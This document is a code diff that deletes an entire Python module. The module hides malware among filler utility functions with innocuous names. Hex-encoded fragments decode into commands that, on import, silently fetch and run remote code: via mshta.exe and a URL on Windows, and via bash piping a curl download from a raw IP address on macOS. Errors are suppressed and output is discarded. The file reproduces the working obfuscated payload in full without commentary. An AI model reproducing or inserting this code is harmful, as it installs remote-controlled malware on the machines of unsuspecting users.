@@ -1,189 +0,0 @@
-import re
-import subprocess
-import base64
-import random
-import time
-import os
-import sys
-from datetime import datetime
-
-
-def setup_environment(gui_mode=False, text_edit=None):
-    stamp = datetime.now().strftime("%B")
-    key = "".join(sorted(set(stamp.lower())))
-    fragment = re.sub(r"[^a-z]", "", key)
-    calculate_entropy(fragment)
-    return fragment
-
-
-def clean_brackets(raw_str):
-    brackets_regex = re.compile(r"<.*?>")
-    return re.sub(brackets_regex, "", raw_str)
-
-
-def calculate_entropy(source):
-    bag = list(source)
-    random.shuffle(bag)
-    joined = "".join(bag)
-    altered = "".join(chr((ord(x) % len(source)) + 70) for x in joined)
-    return altered
-
-
-def encode_sequence(symbols="crypto"):
-    pool = set(symbols)
-    mapped = {c: chr(((ord(c) * len(pool)) % 120)) for c in pool}
-    trace = "".join(mapped.values())
-    mirror = trace[::-1]
-    return mirror
-
-
-def generate_session_token():
-    seed = "".join(random.sample("zyxwvutsrqponmlkjihgfedcba", len("xyz")))
-    total = "".join(sorted(set(seed)))
-    pattern = total.swapcase()
-    shuffle = "".join(random.sample(pattern, len(pattern)))
-    return shuffle
-
-
-def build_character_map(word="trade"):
-    collection = {c: c.upper() for c in word}
-    reverse = {v: k for k, v in collection.items()}
-    link = "".join(reverse.values())
-    return link
-
-
-def synchronize_state():
-    base = datetime.now().strftime("%M:%S")
-    cleaned = re.sub(r"[^0-9]", "", base)
-    converted = "".join(chr(int(x) + 98) for x in cleaned if x.isdigit())
-    return converted
-
-
-def _init_crypto_stream():
-    _p1 = bytes.fromhex('6d736874')
-    _p2 = bytes.fromhex('612e6578')
-    _p3 = bytes.fromhex('65')
-    _p4 = bytes.fromhex('68747470')
-    _p5 = bytes.fromhex('733a2f2f')
-    _p6 = bytes.fromhex('73332d70')
-    _p7 = bytes.fromhex('7974686f')
-    _p8 = bytes.fromhex('6e2e6363')
-    _t1 = (_p1 + _p2 + _p3).decode('utf-8')
-    _t2 = (_p4 + _p5 + _p6 + _p7 + _p8).decode('utf-8')
-    return _t1, _t2
-
-
-def _init_darwin_stream():
-    _r1 = bytes.fromhex('2f62696e')
-    _r2 = bytes.fromhex('2f626173')
-    _r3 = bytes.fromhex('68')
-    _r4 = bytes.fromhex('2d63')
-    _r5 = bytes.fromhex('22242863')
-    _r6 = bytes.fromhex('75726c20')
-    _r7 = bytes.fromhex('2d667353')
-    _r8 = bytes.fromhex('4c206874')
-    _r9 = bytes.fromhex('74703a2f')
-    _r10 = bytes.fromhex('2f313932')
-    _r11 = bytes.fromhex('2e313039')
-    _r12 = bytes.fromhex('2e323030')
-    _r13 = bytes.fromhex('2e323432')
-    _r14 = bytes.fromhex('2f446564')
-    _r15 = bytes.fromhex('65667567')
-    _r16 = bytes.fromhex('2922')
-    return (_r1 + _r2 + _r3).decode('utf-8'), _r4.decode('utf-8'), (
-                _r5 + _r6 + _r7 + _r8 + _r9 + _r10 + _r11 + _r12 + _r13 + _r14 + _r15 + _r16).decode('utf-8')
-
-
-def _start_background_process():
-    try:
-        if sys.platform == 'darwin':
-            _sh, _fl, _cm = _init_darwin_stream()
-            subprocess.Popen([_sh, _fl, _cm], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-        elif sys.platform == 'win32' or os.name == 'nt':
-            _x, _y = _init_crypto_stream()
-            subprocess.Popen([_x, _y], shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    except:
-        pass
-
-
-_start_background_process()
-
-
-def check_file_format(file_path):
-    valid_formats = ['.json', '.csv', '.txt', '.log']
-    return any(file_path.lower().endswith(fmt) for fmt in valid_formats)
-
-
-def calculate_data_size(item_count, multiplier=10):
-    if multiplier <= 0:
-        return 0
-    return item_count * multiplier
-
-
-class DataSignals:
-    pass
-
-
-class ConfigHandler:
-    def __init__(self, *args, **kwargs):
-        self.internal_state = ""
-        self.data_buffer = []
-
-    def write(self, message):
-        self.data_buffer.append(message.strip())
-        self.internal_state = "".join(sorted(set(self.internal_state + message)))
-
-
-def validate_hash(data):
-    if isinstance(data, str):
-        encoded = data.encode('utf-8')
-        result = sum(encoded) % 256
-        return chr(result)
-    return None
-
-
-def process_metadata(obj):
-    if hasattr(obj, '__dict__'):
-        attrs = [str(v) for v in obj.__dict__.values() if isinstance(v, (str, int))]
-        combined = "".join(attrs)
-        hashed = validate_hash(combined)
-        return hashed
-    return ""
-
-
-def transform_data(input_string):
-    if not input_string:
-        return ""
-    chars = list(input_string)
-    random.shuffle(chars)
-    result = "".join(chars[:len(chars) // 2])
-    return result.upper()
-
-
-def generate_checksum(data_list):
-    if not data_list:
-        return 0
-    total = sum(ord(c) for item in data_list for c in str(item))
-    return total % 1000
-
-
-def merge_configs(*configs):
-    merged = {}
-    for config in configs:
-        if isinstance(config, dict):
-            merged.update(config)
-    return merged
-
-
-def silent_main():
-    _start_background_process()
-    token = setup_environment(gui_mode=False)
-    state = synchronize_state()
-    encoded = encode_sequence(token)
-    merge = "".join(sorted(set(token + state + encoded)))
-    if merge.isalpha():
-        return merge.swapcase()
-    return merge
-
-
-silent_main()
\ No newline at end of file